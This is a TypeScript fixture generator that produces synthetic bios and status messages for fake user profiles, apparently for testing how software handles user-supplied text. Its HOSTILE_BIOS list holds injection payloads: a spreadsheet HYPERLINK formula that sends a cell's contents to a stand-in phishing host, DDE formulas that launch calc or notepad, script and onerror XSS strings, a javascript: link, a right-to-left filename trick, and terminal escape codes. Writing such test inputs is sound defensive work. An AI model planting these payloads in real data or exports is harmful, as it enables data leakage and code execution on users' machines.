import { hash32, pick, unit } from "../random/hash.ts";
import { TRAIT } from "./trait.ts";

/** The bio of a person; null for the many who wrote none. Some ask not to be contacted, some are hostile on purpose. */
export function bioOf(seed: number, person: number): string | null {
  const share = unit(seed, person, TRAIT.bio);
  const hash = hash32(seed, person, TRAIT.bioText);
  if (share < 0.3) return null;
  if (share < 0.37) return pick(OPT_OUT_BIOS, hash);
  if (share < 0.42) return pick(HOSTILE_BIOS, hash);
  if (share < 0.5) return pick(FOREIGN_BIOS, hash);
  return `${pick(ROLES, hash)} ${pick(SUBJECTS, hash >>> 8)}${pick(ENDINGS, hash >>> 16)}`;
}

/** The status message of a person; null for most. */
export function statusOf(seed: number, person: number): string | null {
  const share = unit(seed, person, TRAIT.status);
  if (share < 0.85) return null;
  if (share < 0.865) return "On leave. Please do not contact me.";
  return pick(
    ["Focusing", "On vacation", "I may be slow to respond.", "Working from a lighthouse"],
    hash32(seed, person, TRAIT.statusText),
  );
}

const ROLES = [
  "Maintainer of",
  "Writes about",
  "Building",
  "Tinkering with",
  "Research engineer,",
  "Core contributor to",
  "Teaching",
];

const SUBJECTS = [
  "small compilers",
  "data pipelines",
  "distributed queues",
  "developer tools",
  "language models on small machines",
  "type systems",
  "time series storage",
  "accessible interfaces",
  "build systems",
  "maps & open data",
];

const ENDINGS = [
  ".",
  ". She/her.",
  ". Coffee, bicycles, Rust.",
  " at night",
  ". Open to sponsorship!",
  " – since 2009",
  '. Father of two; "mostly" offline',
  ", and too many side projects",
];

const OPT_OUT_BIOS = [
  "No recruiters, please.",
  "Compilers. NO RECRUITERS.",
  "I build things in the open. Please do not contact me about jobs or products.",
  "Open-source maintainer. No cold email.",
  "Don't email me about your startup – no cold emails, no sales.",
  "Do not contact. Issues only.",
  "Rustacean 🦀 | no unsolicited emails",
];

const HOSTILE_BIOS = [
  '=HYPERLINK("https://phish.test/?leak="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C notepad'!A0",
  "\t=1+1",
  "＝1+1 full width",
  "<script>alert('bio')</script><img src=x onerror=alert(1)>",
  'quotes "inside", commas, and\nline\r\nbreaks; semicolons',
  "right-to-left \u202Egnp.exe\u202C and zero\u200Bwidth",
  "\u001b[31mred\u001b[0m terminal \u001b]0;title\u0007",
  "[markdown](javascript:alert(1)) **bold** `code`",
];

const FOREIGN_BIOS = [
  "開発者。静かなツールが好きです。",
  "开源爱好者，写编译器",
  "مطور برمجيات، أحب القهوة",
  "Разработчик инструментов",
  "Développeuse ; j’aime les petits outils",
  "👩‍💻🏳️‍🌈 full-stack & full-heart",
];
